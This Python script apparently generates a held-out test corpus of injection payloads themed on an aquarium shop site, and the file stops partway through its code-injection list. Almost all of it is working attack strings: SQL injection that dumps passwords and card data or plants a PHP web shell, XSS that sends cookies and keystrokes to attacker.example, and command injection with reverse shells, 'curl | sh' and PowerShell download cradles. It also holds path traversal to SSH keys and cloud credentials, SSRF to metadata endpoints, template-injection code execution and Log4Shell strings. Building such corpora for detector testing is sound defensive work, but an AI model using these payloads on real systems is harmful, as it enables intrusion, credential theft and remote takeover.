#!/usr/bin/env python3
"""Attack held-out corpus for the aquarium / fishkeeping community and shop.

Standard library only. Every payload and prefix below was written by hand.
Most values are literals (class, value). A small per-category template joins a
hand-written theme prefix to a hand-written payload, optionally applying ONE
encoding (URL-encoding), driven by random.Random(SEED).
"""
import json
import os
import random
import urllib.parse

SEED = 11502
PREFIX = "hab5"

LIT = {}
TPL = {}   # cat -> (count, prefixes, [(class, payload)])

# ---------------------------------------------------------------- sqli
LIT["sqli"] = [
    ("plain-boolean", "' OR '1'='1"),
    ("plain-boolean-comment", "admin'-- -"),
    ("plain-numeric-or", "1 OR 1=1"),
    ("note-union-select", "pH 6.8' UNION SELECT username, password_hash FROM users-- -"),
    ("note-union-null", "NO3 < 20 ppm' UNION ALL SELECT NULL,NULL,version()-- "),
    ("search-union-mysql", "neon tetra' UNION SELECT 1,group_concat(email,0x3a,password),3 FROM customers#"),
    ("search-boolean-like", "Corydoras%' AND 1=1 AND '%'='"),
    ("order-stacked-drop", "A-20931'; DROP TABLE orders;--"),
    ("order-stacked-mssql", "44817; EXEC xp_cmdshell 'whoami'--"),
    ("numeric-time-mysql", "120 AND SLEEP(5)"),
    ("numeric-time-pg", "120; SELECT pg_sleep(5)--"),
    ("string-time-mssql", "Eheim 2217'; WAITFOR DELAY '0:0:5'--"),
    ("string-time-oracle", "kH 4' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',5)-- "),
    ("string-time-sqlite", "gH 6' AND 1=randomblob(500000000)-- "),
    ("string-time-mysql-if", "Betta' AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(5),0)-- -"),
    ("string-benchmark", "shrimp' AND BENCHMARK(5000000,MD5('x'))#"),
    ("error-extractvalue", "Apistogramma' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -"),
    ("error-updatexml", "L046' AND updatexml(1,concat(0x7e,database()),1)#"),
    ("error-mssql-convert", "Discus' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--"),
    ("error-pg-cast", "Guppy' AND 1=CAST((SELECT current_user) AS int)--"),
    ("error-oracle-ctxsys", "Tang' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("blind-substring", "ember tetra' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a"),
    ("blind-ascii", "Otocinclus' AND ASCII(SUBSTR((SELECT table_name FROM information_schema.tables LIMIT 1),1,1))>100-- -"),
    ("order-by-probe", "scientific_name ORDER BY 12-- -"),
    ("sort-case-when", "price,(CASE WHEN (SELECT 1 FROM users WHERE username='admin')=1 THEN price ELSE name END)"),
    ("sort-if", "(SELECT IF(1=1,stock,price))"),
    ("limit-procedure", "10 PROCEDURE ANALYSE(extractvalue(1,concat(0x7e,version())),1)"),
    ("comment-as-space", "pH'/**/UNION/**/SELECT/**/email,password/**/FROM/**/users#"),
    ("mysql-versioned-comment", "Rasbora' /*!50000UNION*/ /*!50000SELECT*/ 1,2,@@hostname-- -"),
    ("case-mixing", "Plec0' uNiOn SeLeCt NuLl,tAbLe_NaMe FrOm InFoRmAtIoN_sChEmA.tAbLeS-- -"),
    ("no-space-parens", "1'or(1)=(1)#"),
    ("hash-comment-newline", "tank 5' OR 1=1#\n"),
    ("double-dash-newline", "CO2 1 bps'--\nOR 1=1"),
    ("mssql-stacked-insert", "Fluval 407'; INSERT INTO admins(user,pass) VALUES('eve','x');--"),
    ("pg-stacked-copy", "1; COPY (SELECT '') TO PROGRAM 'id > /tmp/q'--"),
    ("mysql-into-outfile", "Koi' UNION SELECT '<?php system($_GET[0]); ?>' INTO OUTFILE '/var/www/html/fish.php'-- -"),
    ("mysql-load-file", "Ramshorn' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("mssql-openrowset", "1; SELECT * FROM OPENROWSET('SQLNCLI','server=203.0.113.7;uid=sa;pwd=x','SELECT 1')--"),
    ("oracle-utl-http", "Amano' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("mssql-dns-exfil", "1; EXEC master..xp_dirtree '\\\\'+(SELECT TOP 1 name FROM sys.databases)+'.attacker.example\\a'--"),
    ("pg-dollar-quote", "1; CREATE TABLE t(x text); COPY t FROM $$/etc/passwd$$--"),
    ("sqlite-master", "Cherry' UNION SELECT sql,name FROM sqlite_master-- "),
    ("sqlite-attach", "1'; ATTACH DATABASE '/var/www/x.php' AS lol; CREATE TABLE lol.p (d text); INSERT INTO lol.p VALUES ('<?php system($_GET[c]);?>');--"),
    ("hex-string", "1 UNION SELECT 0x61646d696e,2 FROM users WHERE name=0x61646d696e"),
    ("char-concat-mssql", "1 UNION SELECT CHAR(97)+CHAR(100)+CHAR(109),2--"),
    ("oracle-chr-concat", "x' UNION SELECT CHR(65)||CHR(66),NULL FROM dual--"),
    ("between-no-equals", "1 AND (SELECT COUNT(*) FROM users) BETWEEN 1 AND 99"),
    ("like-bypass", "1' OR username LIKE 'adm%'-- "),
    ("dosing-note-or-true", "dose 5 mL' OR 'x'='x"),
    ("breeder-id-numeric", "BR-7 OR 2>1"),
    ("listing-price-numeric", "35 UNION SELECT card_number,cvv FROM payments"),
    ("controller-name-stacked", "Heater_1'); UPDATE users SET role='admin' WHERE username='reefkraken';--"),
    ("json-field-mysql", "1' AND JSON_EXTRACT('{\"a\":1}','$.a')=1 AND SLEEP(3)-- -"),
    ("pg-string-agg", "Discus' UNION SELECT string_agg(usename||':'||passwd,','),NULL FROM pg_shadow--"),
    ("mssql-fn-varbin", "Tang' UNION SELECT name,master.sys.fn_varbintohexstr(password_hash) FROM sys.sql_logins--"),
    ("backslash-escape-break", "Rotala\\' OR 1=1-- -"),
    ("double-quote-context", "Hygrophila\" OR \"1\"=\"1"),
    ("paren-break", "Ludwigia') OR ('a'='a"),
    ("double-paren-break", "7)) UNION SELECT password FROM users-- -"),
    ("having-probe", "1' GROUP BY id HAVING 1=1--"),
    ("insert-subquery-value", "great filter', (SELECT password FROM users LIMIT 1))-- -"),
    ("update-set-injection", "5/5', is_admin=1 WHERE '1'='1"),
    ("wide-char-gbk", "%bf%27 OR 1=1-- -"),
    ("urlencode-union", "tetra%27%20UNION%20SELECT%20NULL%2Cpassword%20FROM%20users--%20-"),
    ("double-urlencode-quote", "gourami%2527%2520OR%25201%253D1--"),
    ("fullwidth-quote", "Betta＇ OR １=１-- -"),
    ("unicode-escape-json", "\\u0027 OR 1=1-- -"),
    ("scientific-notation", "1e0UNION SELECT password FROM users"),
    ("mysql-backtick-ident", "`price`,(SELECT `password` FROM `users` LIMIT 1)"),
    ("mssql-bracket-ident", "1; SELECT [password] FROM [dbo].[users]--"),
    ("log-note-sleep-pg", "Water change 40%' || (SELECT pg_sleep(10)) || '"),
    ("csv-import-row", "Glowlight tetra;Hemigrammus erythrozonus;12'); DELETE FROM stock WHERE ('1'='1"),
]
TPL["sqli"] = (8, [
    "NO3 < 20 ppm ", "Order #B-7781 ", "kH 3 gH 6 ", "Corydoras sterbai ", "Fluval 407 review ",
], [
    ("tpl-union", "' UNION SELECT email,password FROM users-- -"),
    ("tpl-time-mysql", "' AND SLEEP(6)-- -"),
    ("tpl-boolean", "' OR 'a'='a'-- "),
    ("tpl-stacked-pg", "'; SELECT pg_sleep(6)--"),
    ("tpl-error-mysql", "' AND extractvalue(1,concat(0x7e,user()))#"),
])

# ---------------------------------------------------------------- xss
LIT["xss"] = [
    ("plain-script", "<script>alert(document.domain)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("review-script-cookie", "★★★★★ great heater <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("bio-img-onerror", "Fishkeeper since '98 <img src=/x onerror=\"new Image().src='//attacker.example/?'+document.cookie\">"),
    ("build-svg-onload", "Day 30 update: rotala pearling <svg/onload=alert`1`>"),
    ("listing-iframe-js", "WYSIWYG betta <iframe src=\"javascript:alert(origin)\"></iframe>"),
    ("chat-details-ontoggle", "lol my pleco <details open ontoggle=alert(1)>"),
    ("stock-body-onload", "Paracheirodon innesi x12 <body onload=alert(document.cookie)>"),
    ("order-note-input-autofocus", "Leave at back door <input autofocus onfocus=alert(1)>"),
    ("markdown-link-js", "[Fluval manual](javascript:alert(document.cookie))"),
    ("markdown-link-js-entity", "[care sheet](javas&#99;ript:alert(1))"),
    ("markdown-image-onerror", "![tank](x\" onerror=\"alert(1))"),
    ("attr-break-double", "\" onmouseover=\"alert(1)\" x=\""),
    ("attr-break-single", "' autofocus onfocus='alert(1)"),
    ("attr-break-tag", "\"><script>alert(1)</script>"),
    ("textarea-break", "</textarea><script>alert(1)</script>"),
    ("title-break", "</title><svg onload=alert(1)>"),
    ("style-break", "</style><img src=x onerror=alert(1)>"),
    ("script-string-break", "';alert(document.domain);//"),
    ("script-string-break-double", "\";alert(1);//"),
    ("script-close-break", "</script><script>alert(1)</script>"),
    ("template-literal-break", "${alert(1)}`"),
    ("href-javascript", "javascript:alert(document.cookie)"),
    ("href-javascript-mixed-case", "JaVaScRiPt:alert(1)"),
    ("href-javascript-tab", "java\tscript:alert(1)"),
    ("href-javascript-entity-colon", "javascript&colon;alert(1)"),
    ("data-uri-html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("html-entity-decimal", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">tank pics</a>"),
    ("html-entity-hex", "<img src=x onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;(1)\">"),
    ("urlencode-script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("double-urlencode-img", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("unicode-escape-js", "<img src=x onerror=\"\\u0061lert(1)\">"),
    ("js-hex-escape", "<svg onload=\"eval('\\x61lert(1)')\">"),
    ("case-mixing-tag", "<ScRiPt>alert(1)</sCrIpT>"),
    ("nested-strip-bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("slash-separator", "<img/src=x/onerror=alert(1)>"),
    ("no-quotes-fromcharcode", "<img src=x onerror=alert(String.fromCharCode(88,83,83))>"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-set-href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>click</text></a></svg>"),
    ("math-href", "<math><mtext><a href=javascript:alert(1)>x</a></mtext></math>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-src-onerror", "<audio src=x onerror=alert(1)>"),
    ("object-data-js", "<object data=\"javascript:alert(1)\"></object>"),
    ("embed-src-data", "<embed src=\"data:text/html,<script>alert(1)</script>\">"),
    ("form-action-js", "<form action=javascript:alert(1)><button>Buy now</button></form>"),
    ("button-formaction", "<button formaction=javascript:alert(1)>Add to cart</button>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>SALE</marquee>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("base-href-hijack", "<base href=\"//attacker.example/\">"),
    ("input-image-onerror", "<input type=image src=x onerror=alert(1)>"),
    ("custom-tag-autofocus", "<xss onfocus=alert(1) autofocus tabindex=1>"),
    ("style-attr-onanimation", "<style>@keyframes k{}</style><p style=\"animation-name:k\" onanimationstart=alert(1)>"),
    ("a-onpointerover", "<a onpointerover=alert(1)>Java fern photos</a>"),
    ("angular-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("angular-csti-old", "{{$on.constructor('alert(1)')()}}"),
    ("vue-csti", "{{_c.constructor('alert(1)')()}}"),
    ("dom-hash-img", "#<img src=x onerror=alert(1)>"),
    ("jquery-selector", "<img src=1 onerror=$.getScript('//attacker.example/x.js')>"),
    ("import-module", "<script type=module>import('//attacker.example/m.js')</script>"),
    ("srcdoc-iframe", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
    ("svg-script-xlink", "<svg><script xlink:href=data:,alert(1) /></svg>"),
    ("noscript-break", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("comment-break", "--><img src=x onerror=alert(1)>"),
    ("cdata-break", "]]><svg onload=alert(1)>"),
    ("json-in-html", "</script><svg onload=alert(1)>{\"tank\":\"60P\"}"),
    ("fullwidth-brackets", "＜script＞alert(1)＜/script＞"),
    ("svg-style-mxss", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("overlong-utf8-lt", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("keylogger", "Nice scape! <img src=x onerror=\"document.onkeypress=function(e){fetch('//attacker.example/k?'+e.key)}\">"),
]
TPL["xss"] = (8, [
    "Great filter! ", "Stocking: 6x Otocinclus ", "pH 6.8 stable ", "Selling CRS grade SS+ ", "Chat: lol ",
], [
    ("tpl-img-onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("tpl-svg-onload", "<svg onload=confirm(1)>"),
    ("tpl-script-src", "<script src=//attacker.example/a.js></script>"),
    ("tpl-details", "<details open ontoggle=print()>"),
])

# ---------------------------------------------------------------- cmdi
LIT["cmdi"] = [
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-cat", "| cat /etc/passwd"),
    ("plain-and-whoami", "&& whoami"),
    ("filename-semicolon", "tank_log.csv; curl http://attacker.example/x.sh | sh"),
    ("filename-subshell", "water_tests_$(whoami).csv"),
    ("filename-backtick", "photo_`id`.jpg"),
    ("probe-name-pipe", "Temp1 | nc 203.0.113.9 4444 -e /bin/sh"),
    ("ping-host-semicolon", "192.168.1.40; cat /etc/shadow"),
    ("ping-host-and", "controller.local && wget http://attacker.example/b -O /tmp/b && chmod +x /tmp/b && /tmp/b"),
    ("ping-host-or", "nohost || bash -c 'bash -i >& /dev/tcp/198.51.100.23/443 0>&1'"),
    ("ping-host-newline", "10.0.0.5\ncat /etc/passwd"),
    ("ping-host-newline-encoded", "10.0.0.5%0aid"),
    ("backup-name-redirect", "backup_2024; echo ssh-rsa AAAAB3Nza_fake_key >> ~/.ssh/authorized_keys"),
    ("ifs-no-space", "x;cat${IFS}/etc/passwd"),
    ("ifs-dollar9", "x;cat$IFS$9/etc/passwd"),
    ("brace-expansion", "x;{cat,/etc/passwd}"),
    ("quote-split", "x;w'h'o'am'i"),
    ("backslash-split", "x;c\\at /e\\tc/pa\\sswd"),
    ("var-concat", "x;a=ca;b=t;$a$b /etc/passwd"),
    ("wildcard-path", "x;/???/c?t /???/p??s??"),
    ("base64-decode-exec", "x;echo aWQ7dW5hbWUgLWE= | base64 -d | sh"),
    ("hex-printf-exec", "x;$(printf '\\x69\\x64')"),
    ("rev-exec", "x;echo 'di' | rev | sh"),
    ("curl-post-exfil", "sump.jpg;curl -d @/etc/passwd https://attacker.example/u"),
    ("dns-exfil", "x;nslookup $(whoami).attacker.example"),
    ("sleep-timing", "pH_probe;sleep 10"),
    ("ping-timing", "x|ping -c 10 127.0.0.1"),
    ("python-reverse", "x; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.44\",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'"),
    ("perl-exec", "x; perl -e 'system(\"id\")'"),
    ("php-exec", "x; php -r 'system(\"id\");'"),
    ("busybox-nc", "x; busybox nc 198.51.100.5 4444 -e sh"),
    ("mkfifo-shell", "x; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 80 >/tmp/f"),
    ("crontab-persist", "x; (crontab -l; echo '* * * * * curl -s attacker.example/p|sh') | crontab -"),
    ("tar-checkpoint-arg", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/run.sh"),
    ("curl-output-arg", "-o /var/www/html/shell.php http://attacker.example/shell.txt"),
    ("wget-post-file-arg", "--post-file=/etc/passwd http://attacker.example/"),
    ("ssh-proxycommand-arg", "-oProxyCommand=sh -c 'id > /tmp/pwn' x"),
    ("find-exec-arg", "-exec sh -c id ;"),
    ("git-upload-pack-arg", "--upload-pack=touch /tmp/pwned"),
    ("rsync-e-arg", "-e sh -c 'id>&2' x:y"),
    ("zip-TT-arg", "-TT sh -c id #"),
    ("sendmail-X-arg", "shop@example.com -X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("imagemagick-filename", "|ls -la > /tmp/x; .jpg"),
    ("ffmpeg-concat", "concat:/etc/passwd|tank.mp4"),
    ("windows-amp", "report.pdf & type C:\\Windows\\win.ini"),
    ("windows-pipe", "tank | dir C:\\Users"),
    ("windows-double-amp", "x && net user eve P4ss! /add"),
    ("windows-caret", "x & w^h^o^a^m^i"),
    ("windows-env-substring", "x & %COMSPEC:~-7,1%md /c whoami"),
    ("powershell-iex", "x; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("powershell-encoded", "x & powershell -enc dwBoAG8AYQBtAGkA"),
    ("powershell-subexpr", "tank$(Invoke-Expression 'whoami')"),
    ("powershell-iwr", "; iwr -useb http://198.51.100.8/a | iex"),
    ("windows-certutil", "x & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("windows-bitsadmin", "x & bitsadmin /transfer j http://attacker.example/a.exe C:\\Users\\Public\\a.exe"),
    ("controller-cron-note", "Timer 1 08:00-12:00 ON; curl http://attacker.example/$(hostname)"),
    ("mqtt-topic-inject", "home/aquarium/tank1/temp' ; id ; echo '"),
    ("ota-url-subshell", "http://fw.example/firmware-5.2.bin?v=`uname -a`"),
    ("dosing-label-bash", "Alk 12 mL $(cat /etc/hostname)"),
    ("double-quoted-break", "\"; id; echo \""),
    ("single-quoted-break", "'; id; echo '"),
    ("url-encoded-semicolon", "tank%3Bid"),
    ("url-encoded-pipe-space", "tank%7Ccat%20%2Fetc%2Fpasswd"),
]
TPL["cmdi"] = (7, [
    "tank_log_2024.csv", "Heater_1", "aquarium-pi.local", "feed_mode_A", "pH_calib.txt",
], [
    ("tpl-semicolon-id", ";id"),
    ("tpl-subshell", "$(uname -a)"),
    ("tpl-backtick", "`whoami`"),
    ("tpl-pipe-nc", "|nc 203.0.113.9 4444 -e /bin/sh"),
    ("tpl-and-curl", " && curl attacker.example/i|sh"),
])

# ---------------------------------------------------------------- traversal
LIT["traversal"] = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("plain-windows", "..\\..\\..\\windows\\win.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("import-file-dotdot", "tank_log/../../../../../etc/passwd"),
    ("photo-path-dotdot", "uploads/builds/60P/../../../../proc/self/environ"),
    ("csv-import-config", "../../config/database.yml"),
    ("env-file", "../../../.env"),
    ("ssh-key", "../../../../root/.ssh/id_rsa"),
    ("aws-creds", "../../../../home/app/.aws/credentials"),
    ("proc-cmdline", "../../../../proc/self/cmdline"),
    ("git-config", "../../.git/config"),
    ("urlencode-dots", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("urlencode-slash-only", "..%2f..%2f..%2f..%2fetc%2fhosts"),
    ("double-urlencode", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("overlong-utf8-dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("percent-u", "..%u2216..%u2216windows%u2216win.ini"),
    ("percent-u-dots", "%u002e%u002e/%u002e%u002e/etc/passwd"),
    ("fullwidth-dots", "．．／．．／．．／etc/passwd"),
    ("nested-strip", "....//....//....//etc/passwd"),
    ("nested-strip-backslash", "....\\\\....\\\\windows\\\\win.ini"),
    ("mixed-slashes", "..\\/..\\/..\\/etc/passwd"),
    ("null-byte-ext", "../../../etc/passwd%00.jpg"),
    ("null-byte-literal-ext", "../../../../etc/passwd\u0000.png"),
    ("extension-append-dot", "../../../etc/passwd/."),
    ("windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("windows-unc", "\\\\203.0.113.12\\share\\fish.jpg"),
    ("windows-boot-ini", "..\\..\\..\\..\\boot.ini"),
    ("windows-iis-web-config", "..\\..\\web.config"),
    ("windows-sam", "../../../../Windows/System32/config/SAM"),
    ("file-uri", "file:///etc/passwd"),
    ("php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("php-input-wrapper", "php://input"),
    ("zip-wrapper", "zip://uploads/build.zip#../../shell.php"),
    ("java-web-inf", "../WEB-INF/web.xml"),
    ("java-classes", "..;/..;/WEB-INF/classes/application.properties"),
    ("tomcat-semicolon", "/static/..;/manager/html"),
    ("nginx-alias-off-by-slash", "/media../etc/passwd"),
    ("spring-actuator-traversal", "/images/%2e%2e/%2e%2e/actuator/env"),
    ("zip-slip-entry", "../../../../var/www/html/fishcare.php"),
    ("template-name", "manuals/../../../../etc/issue"),
    ("log-viewer", "controller/logs/../../../../var/log/auth.log"),
    ("docker-secrets", "../../../../run/secrets/db_password"),
    ("k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
]
TPL["traversal"] = (6, [
    "builds/60P-iwagumi/", "manuals/eheim/", "uploads/water_logs/", "exports/", "firmware/",
], [
    ("tpl-dotdot-passwd", "../../../../../etc/passwd"),
    ("tpl-urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("tpl-windows", "..\\..\\..\\..\\windows\\win.ini"),
    ("tpl-environ", "../../../../proc/self/environ"),
])

# ---------------------------------------------------------------- ssrf
LIT["ssrf"] = [
    ("plain-metadata-aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("plain-localhost-admin", "http://127.0.0.1:8080/admin"),
    ("photo-url-metadata", "https://169.254.169.254/latest/user-data"),
    ("gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("azure-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("ecs-task-metadata", "http://169.254.170.2/v2/credentials/"),
    ("decimal-ip", "http://2852039166/latest/meta-data/"),
    ("hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("mixed-ip", "http://0xa9.254.0251.254/"),
    ("short-ip", "http://127.1:6379/"),
    ("zero-ip", "http://0.0.0.0:2375/containers/json"),
    ("ipv6-loopback", "http://[::1]:8500/v1/agent/self"),
    ("ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("ipv6-mapped-hex", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/"),
    ("userinfo-confusion", "http://aquarium-shop.example@169.254.169.254/latest/meta-data/"),
    ("userinfo-backslash", "http://attacker.example\\@127.0.0.1:9200/_cat/indices"),
    ("fragment-confusion", "http://127.0.0.1:8081#@cdn.aquarium-shop.example/"),
    ("dns-rebind-nip", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("attacker-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("localhost-name", "http://localhost:2379/v2/keys/?recursive=true"),
    ("internal-service-name", "http://inventory-service.internal:8080/api/orders?all=true"),
    ("k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("rfc1918-router", "http://192.168.0.1/cgi-bin/luci"),
    ("rfc1918-controller", "http://10.0.0.17/cgi-bin/status.xml"),
    ("rfc1918-172", "http://172.16.5.4:9000/minio/admin/v3/info"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20sh%20-c%20id%5Cn%22%0D%0ASAVE%0D%0A"),
    ("gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Ceve%40attacker.example%3E%0D%0A"),
    ("dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("file-scheme", "file:///proc/self/environ"),
    ("ftp-internal", "ftp://10.1.2.3/backups/db.sql"),
    ("ldap-scheme", "ldap://127.0.0.1:389/%0astats%0aquit"),
    ("tftp-scheme", "tftp://203.0.113.50/x"),
    ("jar-scheme", "jar:http://attacker.example/x.jar!/a.txt"),
    ("netdoc-scheme", "netdoc:///etc/passwd"),
    ("docker-socket", "http://unix:/var/run/docker.sock:/containers/json"),
    ("webhook-url-actuator", "http://127.0.0.1:8080/actuator/heapdump"),
    ("webhook-url-consul", "http://127.0.0.1:8500/v1/kv/?recurse"),
    ("import-feed-url", "http://127.0.0.1:5984/_all_dbs"),
    ("avatar-url-elastic", "http://localhost:9200/_search?q=*"),
    ("fullwidth-dots-host", "http://169。254。169。254/latest/meta-data/"),
    ("enclosed-alnum", "http://①②⑦.⓪.⓪.①:8080/"),
    ("urlencoded-host", "http://%31%32%37%2e%30%2e%30%2e%31/server-status"),
    ("oracle-cloud-metadata", "http://192.0.0.192/latest/meta-data/"),
]
TPL["ssrf"] = (5, [
    # internal bases; joined to a theme-flavoured path below (value stays a fetchable URL)
    "http://127.0.0.1:8080", "http://169.254.169.254", "http://10.0.0.17", "http://[::1]:3000",
    "http://0x7f000001:5000",
], [
    ("tpl-internal-export", "/api/tanks/export?all=1"),
    ("tpl-internal-admin", "/admin/orders?status=paid"),
    ("tpl-internal-creds", "/latest/meta-data/iam/security-credentials/"),
    ("tpl-internal-status", "/server-status"),
])

# ---------------------------------------------------------------- code
LIT["code"] = [
    ("plain-ssti-jinja-config", "{{config.items()}}"),
    ("plain-ssti-jinja-rce", "{{cycler.__init__.__globals__.os.popen('id').read()}}"),
    ("note-jinja-lipsum", "pH 6.8 {{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}"),
    ("note-jinja-subclasses", "Hi {{''.__class__.__mro__[1].__subclasses__()}}"),
    ("jinja-request-attr", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}"),
    ("jinja-statement", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}"),
    ("twig-filter-system", "{{['id']|filter('system')}}"),
    ("twig-map-exec", "Stocking: {{['cat /etc/passwd']|map('passthru')}}"),
    ("twig-self-env", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("freemarker-api", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("velocity-runtime", "#set($rt=$class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("thymeleaf-spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("erb-system", "Order note <%= `id` %>"),
    ("erb-file-read", "<%= File.open('/etc/passwd').read %>"),
    ("slim-haml-ruby", "#{system('id')}"),
    ("handlebars-constructor", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("nunjucks-range-constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("pug-code", "#{root.process.mainModule.require('child_process').execSync('id')}"),
    ("ejs-outputfunction", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("smarty-php-tag", "{php}echo `id`;{/php}"),
    ("smarty-system", "{system('id')}"),
    ("mako-os", "${__import__('os').popen('id').read()}"),
    ("tornado-import", "{% import os %}{{os.popen('id').read()}}"),
    ("django-debug-settings", "{{settings.SECRET_KEY}}"),
    ("go-template-method", "{{.System \"id\"}}"),
    ("razor-csharp", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spel-processbuilder", "${new java.lang.ProcessBuilder({'id'}).start()}"),
    ("el-jsp", "${pageContext.request.getSession().getServletContext().getClassLoader()}"),
    ("el-jakarta-runtime", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"exec\",\"\".getClass()).invoke(\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null),\"id\")}"),
    ("ognl-struts", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl-content-type", "${(#context['xwork.MethodAccessor.denyMethodExecution']=false).(@java.lang.Runtime@getRuntime().exec('touch /tmp/o'))}"),
    ("mvel-runtime", "Runtime.getRuntime().exec(\"id\");"),
    ("log4shell-ldap", "${jndi:ldap://attacker.example/a}"),
    ("log4shell-in-note", "Heater_1 temp alarm ${jndi:ldap://203.0.113.77:1389/Exploit}"),
    ("log4shell-lower-bypass", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://attacker.example/x}"),
    ("log4shell-default-bypass", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/o}"),
